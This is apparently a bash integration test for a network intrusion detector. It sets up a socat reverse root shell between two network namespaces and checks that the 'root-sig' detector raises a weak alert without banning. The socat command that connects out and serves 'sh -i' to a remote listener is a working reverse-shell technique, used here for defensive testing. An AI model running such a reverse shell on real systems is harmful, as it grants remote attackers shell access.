#!/bin/bash
# root-sig on a reverse shell: this host connects out and serves a root shell to the remote
# listener. The "# " prompt comes from the client (this host), not as the server's first data
# packet, so it is root-sig's weak form: detector root-sig, strength weak, the action of
# root-sig-weak (alert by default), no ban.
set -euo pipefail
. "$(dirname "$0")/lib.sh"

ROOT_SIG='e["event"] == "backdoor" and e["detector"] == "root-sig"'
s_listening() { in_s ss -Hltn "sport = :$1" | grep -q .; }

setup
step "the scanner listens on 4445 and types id after a second"
{ sleep 1; echo id; sleep 2; } | ip netns exec "$SNS" socat -T 5 TCP-LISTEN:4445,reuseaddr STDIO \
	>"$TMPD/listener.out" 2>&1 &
wait_until 5 s_listening 4445 || fail "the listener on the scanner did not start"

step "the victim connects out with a root shell"
# Plain sh -i: dash's warning about the missing tty shares the prompt's packet.
timeout 10 ip netns exec "$VNS" socat "TCP:$S4:4445" EXEC:'sh -i',stderr </dev/null >"$TMPD/shell.log" 2>&1 &
wait_until 10 grep -q 'uid=0(root)' "$TMPD/listener.out" ||
	fail "the listener did not get the shell's answer to id: $(cat "$TMPD/listener.out")"
wait_for_event "$ROOT_SIG"
events_match "$ROOT_SIG and e['class'] == 'root-shell' and e['sent_by'] == 'client' and
	e['src'] == '$V4' and e['dst'] == '$S4' and e['dport'] == 4445 and e['initiator_known'] is True and
	e['evidence'] == '# '" >/dev/null || fail "the root-sig event is not as expected: $(events_match "$ROOT_SIG")"
# The documented rule: strong only as the server's first data packet; here the client sent it.
events_match "$ROOT_SIG and e['strength'] == 'weak' and e['action'] == 'alert'" >/dev/null ||
	fail "expected strength weak, action alert (root-sig-weak): $(events_match "$ROOT_SIG")"
[ "$(event_count "$ROOT_SIG")" = 1 ] || fail "more than one root-sig event: $(events_match "$ROOT_SIG")"
no_event 'e["event"] == "ban"'
assert_not_banned
pass
